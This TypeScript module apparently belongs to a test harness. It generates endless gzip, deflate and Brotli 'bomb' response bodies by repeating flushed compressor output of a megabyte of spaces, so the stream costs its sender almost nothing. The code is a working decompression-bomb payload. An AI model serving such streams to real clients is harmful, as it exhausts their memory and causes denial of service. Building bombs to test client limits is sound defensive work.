import {
  type BrotliCompress,
  constants,
  createBrotliCompress,
  createDeflate,
  createGzip,
  type Gzip,
} from 'node:zlib';
import type { Attack } from './attack-bodies.ts';

const PACKINGS = {
  gzip: { make: () => createGzip(), flush: constants.Z_FULL_FLUSH },
  deflate: { make: () => createDeflate(), flush: constants.Z_FULL_FLUSH },
  br: { make: () => createBrotliCompress(), flush: constants.BROTLI_OPERATION_FLUSH },
};
type Packing = keyof typeof PACKINGS;

/** How the answers of an attack are packed; null: they are not. */
export function packingOf(attack: Attack): Packing | null {
  switch (attack) {
    case 'gzip-bomb':
      return 'gzip';
    case 'deflate-bomb':
      return 'deflate';
    case 'br-bomb':
      return 'br';
    default:
      return null;
  }
}

const SPACES = Buffer.alloc(2 ** 20, ' ');
const AT_ONCE = 32;

/**
 * Spaces without end, packed. A packer that was flushed says the same of the same: so each MiB costs its
 * sender nothing.
 */
export async function packedSpaces(packing: Packing): Promise<Iterable<Buffer>> {
  const { make, flush } = PACKINGS[packing];
  const packer = make();
  const first = await packed(packer, flush);
  const again = Buffer.concat(Array.from({ length: AT_ONCE }).fill(await packed(packer, flush)) as Buffer[]);
  packer.destroy();
  return repeated(first, again);
}

function* repeated(first: Buffer, again: Buffer): Generator<Buffer> {
  yield first;
  for (;;) yield again;
}

async function packed(packer: Gzip | BrotliCompress, flush: number): Promise<Buffer> {
  const written = new Promise<void>((resolve) => packer.write(SPACES, () => packer.flush(flush, resolve)));
  await written;
  const chunk: unknown = packer.read();
  if (!Buffer.isBuffer(chunk)) throw new TypeError('the packer said nothing');
  return chunk;
}
